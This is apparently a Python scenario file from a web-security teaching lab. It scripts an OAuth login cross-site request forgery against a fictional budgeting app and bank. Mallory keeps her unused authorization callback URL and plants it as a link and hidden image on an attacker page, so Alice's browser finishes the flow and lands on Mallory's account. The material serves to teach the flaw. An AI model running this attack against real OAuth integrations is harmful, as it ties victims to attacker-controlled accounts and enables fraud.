"""Mallory begins, Alice's browser ends."""

from typing import Any
from urllib.parse import urlencode

from flask import Response, render_template, request

from labs.chromium import BrowserStage
from labs.stage import Stage, Stuck
from labs.steps import step


def photos(world: Any) -> Response:
    """Show a link, and a picture nobody sees: both are the URL that Mallory kept."""
    page = Response(render_template("pages/photos.html", address=request.args.get("see", "")))
    # A picture needs no click; but a browser of today sends no cookie with it, so the link is there as well.
    page.headers["Content-Security-Policy"] = f"default-src 'none'; style-src 'self'; img-src {world.here.budget}"
    return page


PAGES = {"/photos": photos}


@step("Alice", by_hand="{budget}/connect")
def alice_connects(stage: BrowserStage) -> None:
    """Connect Budget to the bank: sign in as alice, and allow."""
    stage.alice.go(f"{stage.here.budget}/connect").agree()


@step("Alice", by_hand="{budget}/connect?with=transfers:write")
def alice_is_interrupted(stage: BrowserStage) -> None:
    """Let Budget ask for more, and leave Bank ID's page open: do not press a button there."""
    stage.alice.go(f"{stage.here.budget}/connect?with=transfers:write")


@step("attacker")
def mallory_keeps_her_callback(stage: Stage) -> None:
    """Let Mallory sign in and allow, in her own browser, up to the last redirect; put its URL on a page."""
    # She must not use her code up: it is for Alice's browser.
    stage.mallory.holds_back = f"{stage.here.budget}/callback"
    stage.mallory.go(f"{stage.here.budget}/connect").agree()
    if not stage.mallory.handed_over:
        raise Stuck("Mallory was not sent back to Budget")
    stage.onward = f"{stage.here.attacker}/photos?{urlencode({'see': stage.mallory.handed_over})}"


@step("Alice")
def alice_follows_the_link(stage: BrowserStage) -> None:
    """Open Mallory's page, which holds that URL as a picture, too; then follow its link."""
    stage.lead_alice().click("See the photos", "link", stage.here.budget)


@step("Alice", by_hand="{budget}/")
def alice_looks_at_her_money(stage: BrowserStage) -> None:
    """Open Budget. Whose account is it?"""
    stage.alice.go(f"{stage.here.budget}/")
